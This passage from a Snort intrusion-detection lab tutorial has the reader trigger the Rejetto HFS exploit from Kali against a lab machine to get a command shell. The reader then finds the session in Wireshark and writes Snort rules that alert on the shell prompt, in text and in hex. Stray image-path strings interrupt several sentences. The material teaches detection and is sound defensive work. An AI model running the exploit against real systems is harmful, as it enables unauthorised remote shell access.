Make a new directory that's yourname.

mkdir yourname

Now press Ctrl+C and answer y for “yes” to close your command shell access.

Next, go to your Ubuntu Server VM and press Ctrl+C to stop Snort. Enter sudo wireshark into your terminal shell. In Wireshark, go to File → Open and browse to /var/log/snort. At this point we will have several snort.log.* files there. Select the one that was modified most recently and click Open.

You should see quite a few packets captured.

We need to find the ones related to oursimulated attack. In Wireshark, select Edit → Find Packet. On the resulting dialog, select the String radio button. Next, select Packet Bytes for the Search In criteria. Then, for the search string, enter the username you created.

Once you’ve got the search dialog configured, click the Find button. The search should find the packet that contains the string you searched for. Go ahead and select that packet. It will be the dark orange colored one. Right-click it and select Follow TCP Stream.

This action should show you all the commands that were entered in that TCP session. This will include the creation of the account, as well as the other actions.

After you’ve verified your results, go ahead and close the stream window. This should take you backto the packet you selected in the beginning. Now hit your up arrow until you see the ASCII part of your hex dump show “C:UsersAdministratorDesktophfs2.3b>” in the bottom pane. See below.

Note the selected portion in the graphic above. We will use this content to create an alert that will let us know when acommand shell is being sent out to another host as a result of the Rejetto HFS exploit. Minimize the Wireshark window (don’t close it just yet).

Exercise 3: Building a custom rule from logged traffic

We want to see an alert show up anytime Snort sees “C:UsersAdministratorDesktophfs2.3b>.” Go to our local.rules file (if you closed it, open it again as root, using the same command as we did earlier) and add the following rule on a new line (note that we are escaping all the backslashes to make sure they are included in the content):

alert tcp $HOME_NET any -> any any (msg:"Command Shell Access"; content:"C:UsersAdministratorDesktophfs2.3b"; sid:1000004; rev:1;)

Save the file. Run Snort in IDS mode again:

sudo snort -A console -q -c /etc/snort/snort.conf -i eth0

Now go back to your Kali Linux VM. You should still be at the prompt for the rejetto exploit. Just enter exploit to run it again. Wait until you get command shell access and return to the Snort terminal on Ubuntu Server. You should see that alerts have been generated, based on our new rule:

Hit Ctrl+C on Kali Linux terminal and enter y to exit out of the command shell. Then hit Ctrl+C on the Ubuntu Server terminal to stop Snort.

In this case, we have some human-readable content to use in our rule. But that’s not always the case.Let’s modify our rule so it looks for content that is represented in hex format. First, in our local.rules file, copy our latest rule and paste it below in the new line. Now comment out the old rule and change the “rev” value for the new rule to “2.” See below.

Bring up the Wireshark window with our capture again, with the same payload portion selected. Unfortunately, you cannot copy hex values directly from the Wireshark’s main window, but there is an easy solution that will work for us. With the needed content selected, right-click either the corresponding (highlighted) packet in the top pane or the highlighted “Data:” entry in the middle pane and select Copy → Bytes → Offset Hex. See below.

Now, in our local.rules file, select the content argument (everything in between the quotation marks) in our new rule, right-click and click Paste. Now carefully remove all extra spaces, line breaks and so on, leaving only the needed hex values. Thenput the pipe symbols (|) on both sides. Your finished rule should look like the image below.

FREE role-guided training plans

FREE role-guided training plans

Get 12 cybersecurity training plans — one for each of the most common roles requested by employers.

Save the file. Start Snort in IDS mode. Next, go to your Kali Linux VM and run the exploit again. Wait until you get the command shell and look at Snort output. You should see alerts generated.

This time we see two alerts instead of four because we included the hex representation of the “>” symbol in the content, making the rule more specific.

Press Ctrl+C to stop Snort. Then, on the Kali Linux VM, press Ctrl+C and enter y to exit out of the commandshell. Type in exit to return to the regular prompt.

This isjust some of the basics of the Snort rule writing. Later we will look atsome more advanced techniques.